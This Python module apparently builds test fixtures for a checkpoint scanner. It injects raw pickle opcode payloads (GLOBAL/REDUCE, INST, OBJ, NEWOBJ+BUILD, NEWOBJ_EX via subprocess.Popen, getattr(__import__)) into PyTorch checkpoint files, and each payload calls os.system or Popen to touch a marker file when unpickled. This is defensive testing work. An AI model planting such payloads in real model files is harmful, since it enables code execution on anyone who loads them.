"""Checkpoints with raw pickle opcodes placed anywhere in them.

``torch.save`` pickles a placeholder string at the chosen place; the placeholder's bytes in
``data.pkl`` are then replaced by an opcode sequence that leaves exactly one object on the
stack. A normal unpickler running any of the payloads creates the marker file.
"""

from __future__ import annotations

import struct
import zipfile
from collections import OrderedDict
from pathlib import Path
from typing import Any

PLACEHOLDER = "@@CKPTD-FAULT-PAYLOAD@@"


def _str(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def payloads(marker: Path) -> dict[str, bytes]:
    """One object each; all but the last run ``touch marker`` under ``pickle.loads``."""
    cmd = _str(f"touch {marker}")
    return {
        "GLOBAL+REDUCE": b"cos\nsystem\n" + cmd + b"\x85R",
        "STACK_GLOBAL+REDUCE": b"\x8c\x02os\x8c\x06system\x93" + cmd + b"\x85R",
        "INST": b"(" + cmd + b"ios\nsystem\n",
        "OBJ": b"(cos\nsystem\n" + cmd + b"o",
        # NEWOBJ makes an instance, BUILD sets its __setstate__ to os.system, BUILD calls it
        "NEWOBJ+BUILD": (
            b"cargparse\nNamespace\n)\x81}" + _str("__setstate__") + b"cos\nsystem\nsb" + cmd + b"b"
        ),
        "NEWOBJ_EX": b"csubprocess\nPopen\n]" + _str("touch") + b"a" + _str(str(marker)) + b"a"
        b"\x85}\x92",
        "getattr(__import__)": (
            b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n" + _str("os") + b"\x85R"
            + _str("system") + b"tR" + cmd + b"\x85R"
        ),
        "unknown global": b"cckptd_fault_nowhere\nUnknownThing\n)\x81",
    }  # fmt: skip


PLACES = ("meta", "state_dict", "state_dict._metadata", "message_hub", "optimizer", "top level")
KEPT = ("meta", "state_dict", "state_dict._metadata")


def place(checkpoint: dict[str, Any], where: str) -> dict[str, Any]:
    """A copy of ``checkpoint`` with the placeholder at ``where``."""
    out = dict(checkpoint)
    if where == "meta":
        out["meta"] = {**checkpoint["meta"], "hidden": PLACEHOLDER}
    elif where == "state_dict":
        out["state_dict"] = OrderedDict(checkpoint["state_dict"])
        out["state_dict"]._metadata = getattr(checkpoint["state_dict"], "_metadata", {})
        out["state_dict"]["hidden"] = PLACEHOLDER
    elif where == "state_dict._metadata":
        out["state_dict"] = OrderedDict(checkpoint["state_dict"])
        metadata = dict(getattr(checkpoint["state_dict"], "_metadata", {}))
        metadata[""] = {**metadata.get("", {}), "hidden": PLACEHOLDER}
        out["state_dict"]._metadata = metadata
    elif where == "top level":
        out["hidden"] = PLACEHOLDER
    else:
        out[where] = {**checkpoint[where], "hidden": [PLACEHOLDER]}
    return out


def inject(source: Path, target: Path, body: bytes) -> Path:
    """Copy the torch zip ``source`` to ``target`` with the placeholder replaced by ``body``."""
    with zipfile.ZipFile(source) as archive:
        records = [(i.filename, archive.read(i)) for i in archive.infolist()]
    placeholder = _str(PLACEHOLDER)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as archive:
        for name, data in records:
            if name.endswith("/data.pkl"):
                assert data.count(placeholder) == 1, "the placeholder must be pickled once"
                data = data.replace(placeholder, body)
            archive.writestr(name, data)
    return target


def hostile_checkpoint(source: Path, target: Path, where: str, body: bytes) -> Path:
    """``source`` (a torch checkpoint) rewritten with ``body`` at ``where``."""
    import torch

    checkpoint = torch.load(source, weights_only=False, map_location="cpu")
    staged = target.with_name(target.name + ".staged")
    torch.save(place(checkpoint, where), staged)
    inject(staged, target, body)
    staged.unlink()
    return target
